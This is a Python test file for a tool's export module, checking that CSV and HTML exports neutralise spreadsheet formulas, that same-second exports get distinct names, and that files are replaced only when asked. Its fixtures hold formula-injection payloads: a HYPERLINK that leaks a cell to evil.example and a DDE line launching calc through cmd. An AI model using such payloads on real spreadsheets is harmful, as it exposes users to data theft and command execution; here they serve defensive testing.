"""Issue 24, point 5: exports a spreadsheet opens never run a cell as a formula, and no export
replaces a file unless asked: two in the same second both survive."""

from __future__ import annotations

import csv
import json
import threading
from pathlib import Path

import pytest

from sora_nb.research import export as export_module
from sora_nb.research.export import ExportError, export, export_history
from sora_nb.research.judgements import annotate
from sora_nb.research.results import FORMULA_STARTS, write_csv
from sora_nb.runs.grid import plan_grid
from tests.research.conftest import Studio, run_grid

PROMPT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the clip") a kite over a beach'
NOTE = '=1+2+cmd|"/c calc"!A1'


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory) -> Studio:
    """One finished take whose prompt and note are formulas."""
    made = run_grid(tmp_path_factory.mktemp("formulas"), plan_grid(PROMPT, [], seconds=4))
    annotate(made.ledger, made.run.takes[0], NOTE)
    return made


@pytest.fixture
def same_second(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Exports from ``tmp_path`` whose default names all fall in one second."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(export_module.time, "strftime", lambda _format: "20261204-203000")
    return tmp_path / "sora_exports"


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_a_grid_csv_keeps_formulas_as_text(studio: Studio, tmp_path: Path) -> None:
    for path in (
        export(studio.run, "csv", tmp_path / "grid.csv", ledger=studio.ledger),
        export_history(studio.ledger, "csv", tmp_path / "history.csv"),
    ):
        rows = cells(path)
        header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
        assert row["prompt"] == "'" + PROMPT, path
        assert row["note"] == "'" + NOTE, path
        for value in [*header, *row.values()]:
            assert not value.startswith(FORMULA_STARTS), (path, value)


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    starts = {f"c{i}": f"{start}SUM(A1:A9)" for i, start in enumerate(FORMULA_STARTS)}
    record = {**starts, "=header": "x", "plain": "a kite", "cost": -1.5, "takes": 3}
    rows = cells(write_csv([record], tmp_path / "t.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    for name, value in starts.items():
        assert row[name] == "'" + value
    assert "'=header" in rows[0]
    assert (row["plain"], row["cost"], row["takes"]) == ("a kite", "-1.5", "3")


def test_the_report_tells_a_spreadsheet_its_cells_are_text(studio: Studio, tmp_path: Path) -> None:
    page = export(studio.run, "html", tmp_path / "r.html").read_text(encoding="utf-8")
    assert 'td, th { mso-number-format: "\\@"; }' in page


def test_two_exports_in_the_same_second_both_survive(studio: Studio, same_second: Path) -> None:
    first = export(studio.run, "csv", ledger=studio.ledger)
    second = export(studio.run, "csv", ledger=studio.ledger)
    assert first != second and first.is_file() and second.is_file()
    assert (first.name, second.name) == ("grid-20261204-203000.csv", "grid-20261204-203000-2.csv")
    assert first.read_bytes() == second.read_bytes()
    reports = [export(studio.run, "html") for _ in range(2)]
    assert reports[0] != reports[1]
    for report in reports:
        assert report.stat().st_size > 0
        assert (report.parent / f"{report.stem}_files").is_dir()
    histories = [export_history(studio.ledger, "json") for _ in range(2)]
    assert histories[0] != histories[1] and all(h.stat().st_size > 0 for h in histories)


def test_exports_made_at_once_take_a_name_each(studio: Studio, same_second: Path) -> None:
    made: list[Path] = []
    lock = threading.Lock()

    def one() -> None:
        path = export(studio.run, "json")
        with lock:
            made.append(path)

    workers = [threading.Thread(target=one) for _ in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
    assert len(set(made)) == 4
    for path in made:
        assert json.loads(path.read_text(encoding="utf-8"))["rows"]


@pytest.mark.parametrize("kind", ["csv", "json", "html"])
def test_a_named_file_is_replaced_only_when_asked(
    studio: Studio, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / f"mine.{kind}"
    path.write_text("keep me")
    with pytest.raises(ExportError, match=r"already exists.*overwrite=True"):
        export(studio.run, kind, path)
    assert path.read_text() == "keep me"
    assert export(studio.run, kind, path, overwrite=True) == path
    assert path.read_text(encoding="utf-8") != "keep me"


def test_history_is_replaced_only_when_asked(studio: Studio, tmp_path: Path) -> None:
    path = tmp_path / "history.csv"
    path.write_text("keep me")
    with pytest.raises(ExportError, match="already exists"):
        export_history(studio.ledger, "csv", path)
    assert path.read_text() == "keep me"
    export_history(studio.ledger, "csv", path, overwrite=True)
    assert cells(path)[0][0] != "keep me"


def test_exports_are_private_and_a_failed_one_leaves_no_name_taken(
    studio: Studio, tmp_path: Path
) -> None:
    for kind in ("csv", "json", "html", "contact", "mp4"):
        made = export(studio.run, kind, tmp_path / f"x.{kind}")
        assert made.stat().st_mode & 0o777 == 0o600, kind
    with pytest.raises(ValueError):
        export(studio.run, "contact", tmp_path / "sheet.png", take=99)
    assert not (tmp_path / "sheet.png").exists()
